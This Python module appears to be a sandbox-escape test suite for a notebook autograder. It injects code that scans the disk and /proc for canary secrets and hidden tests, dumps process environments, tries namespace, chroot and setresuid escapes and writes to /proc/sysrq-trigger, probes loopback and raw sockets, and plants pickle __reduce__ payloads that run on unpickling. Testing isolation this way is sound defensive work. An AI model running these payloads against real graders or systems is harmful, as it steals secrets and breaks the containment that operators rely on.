"""Reaching what is not theirs: files, processes, the network, and whoever unpickles. Rows 15, 17 and 18."""

from __future__ import annotations

from attacks.attack import Work, attack

READ_EVERYTHING = """import os, re, sys
CANARY = re.compile(b'CANA' + b'RY-[a-z]+-[0-9a-f]{{16}}')
def look(path):
    try:
        with open(path, 'rb') as file: data = file.read(3_000_000)
    except OSError: return
    for found in CANARY.finditer(data): print(path, found.group().decode())
    if sys.prefix in path: return  # nbgrader itself has the words in its code
    if b'BEGIN HIDDEN' + b' TESTS' in data: print('-'.join(['GOT', 'OUT']), path)
for path in {paths}:
    look(path)
    for folder, folders, files in os.walk(path):
        for name in files: look(os.path.join(folder, name))
        if folder.count('/') > 12: folders.clear()
"""


@attack(15)
def reads_known_places(work: Work) -> None:
    work.add(READ_EVERYTHING.format(paths=[str(path) for path in work.targets.secrets]))


@attack(15)
def searches_the_disk(work: Work) -> None:
    places = [
        "/home",
        "/root",
        "/tmp",
        "/workspace",
        "/var",
        "/srv",
        "/opt",
        "/mnt",
        "/media",
        "/etc",
        "/run",
        "/gradus",
        "/scratch",
    ]
    work.add(READ_EVERYTHING.format(paths=[*places, "..", "../..", "../../.."]))


@attack(15)
def reads_environment_and_processes(work: Work) -> None:
    work.add(
        "import os, glob\nprint(dict(os.environ))\n"
        "for path in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline'):\n"
        "    try: print(path, open(path, 'rb').read())\n    except OSError as error: print(error)"
    )


@attack(15, exactly=False)
def reads_inherited_descriptors(work: Work) -> None:
    work.add(
        "import os\nfor fd in range(3, 1024):\n    try: os.set_blocking(fd, False); os.lseek(fd, 0, 0)\n"
        "    except OSError: pass\n"
        "    else: print(fd, os.readlink(f'/proc/self/fd/{fd}'), os.read(fd, 4096))"
    )


@attack(15)
def roots_of_other_processes(work: Work) -> None:
    paths = [f"/proc/{pid}/{link}" for pid in ("1", "2", "3", "self", "thread-self") for link in ("root", "cwd", "fd")]
    where = [f"{path}{target}" for path in paths for target in work.targets.secrets]
    work.add(READ_EVERYTHING.format(paths=where))


@attack(15)
def programs_read_for_it(work: Work) -> None:
    names = " ".join(str(path) for path in work.targets.secrets)
    work.add(
        f"%%bash\ncat {names} 2>/dev/null\ngrep -raoE 'CANARY-[a-z]+-[0-9a-f]{{16}}' {names} 2>/dev/null\n"
        f"ls -la /workspace /root"
    )


@attack(15)
def mounts_and_namespaces(work: Work) -> None:
    work.add(
        "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "done = [libc.unshare(0x10000000) == 0, libc.unshare(0x00020000) == 0, libc.umount2(b'/proc', 2) == 0,\n"
        "        libc.mount(b'none', b'/scratch', b'tmpfs', 0, None) == 0, libc.chroot(b'/proc/1/root') == 0,\n"
        "        libc.setresuid(0, 0, 0) == 0, libc.mount(None, b'/', None, 0x1020, None) == 0]\n"
        "def wrote(path, text):\n    try: open(path, 'w').write(text); return True\n    except OSError: return False\n"
        "done += [wrote('/proc/sys/kernel/hostname', 'mine'), wrote('/proc/sysrq-trigger', 'h'),\n"
        "         wrote('/usr/lib/mine', ''),\n"
        "         wrote('/gradus/gradus/mine.py', ''), wrote('/proc/sys/user/max_user_namespaces', '100')]\n"
        "if any(done): print('-'.join(['GOT', 'OUT']), done)"
    )


CONNECT = """import socket
def reach(family, kind, address):
    try:
        with socket.socket(family, kind) as link:
            link.settimeout(1)
            link.connect(address)
            link.send(b'hello')
            print('-'.join(['GOT', 'OUT']), address)
    except OSError as error: print(error)
"""


@attack(17)
def connects_to_loopback(work: Work) -> None:
    port = work.targets.tcp_port
    work.add(f"{CONNECT}reach(socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', {port}))")
    work.add(
        f"import urllib.request\ntry: print(urllib.request.urlopen('http://127.0.0.1:{port}', timeout=1).status)\n"
        "except OSError as error: print(error)"
    )


@attack(17)
def connects_to_an_abstract_socket(work: Work) -> None:
    work.add(f"{CONNECT}reach(socket.AF_UNIX, socket.SOCK_STREAM, '\\0{work.targets.abstract}')")


@attack(17)
def asks_a_name_server(work: Work) -> None:
    work.add(
        "import socket\ntry: print('-'.join(['GOT', 'OUT']), socket.getaddrinfo('example.com', 80))\n"
        "except OSError as error: print(error)"
    )


@attack(17)
def raw_and_odd_sockets(work: Work) -> None:
    work.add(
        "import socket\nfor family in (16, 17, 38, 40):\n    for kind in (1, 2, 3):\n"
        "        try: socket.socket(family, kind); print('-'.join(['GOT', 'OUT']), family, kind)\n"
        "        except OSError: pass\ntry: socket.socket(2, 3, 1); print('-'.join(['GOT', 'OUT']))\n"
        "except OSError: pass"
    )


@attack(17)
def connects_in_hidden_tests(work: Work) -> None:
    work.add(CONNECT)
    port = work.targets.tcp_port
    work.preface(
        "recall_and_precision",
        f"reach(socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', {port}))\n"
        f"reach(socket.AF_UNIX, socket.SOCK_STREAM, '\\0{work.targets.abstract}')",
    )


TOUCH = "class Touch:\n    def __reduce__(self): return (open, ({path!r}, 'w'))\n"


@attack(18, right=False)
def answers_that_unpickle_to_code(work: Work) -> None:
    work.add(
        TOUCH.format(path=f"{work.targets.loot}/unpickled")
        + "class Sub(torch.Tensor):\n    def __reduce_ex__(self, protocol): return Touch().__reduce__()"
    )
    work.body("recall_and_precision", "return Touch()")
    work.body("softmax", "return torch.zeros(2, 2).as_subclass(Sub)")
    work.body("accuracy_gap", "import pickle\nreturn pickle.dumps(Touch())")


@attack(18)
def loads_a_hostile_checkpoint(work: Work) -> None:
    work.add(
        TOUCH.format(path=f"{work.targets.loot}/checkpoint")
        + "torch.save({'weights': Touch()}, 'model.pt')\ntry: torch.load('model.pt', weights_only=False)\n"
        "except OSError as error: print(error)"
    )


@attack(18)
def outputs_that_unpickle_to_code(work: Work) -> None:
    work.add(
        TOUCH.format(path=f"{work.targets.loot}/displayed")
        + "import base64, pickle\nfrom IPython.display import display\n"
        "packed = base64.b64encode(pickle.dumps(Touch())).decode()\n"
        "display({'application/x-python-pickle': packed, 'text/plain': 'x', "
        "'application/octet-stream': packed}, raw=True)"
    )
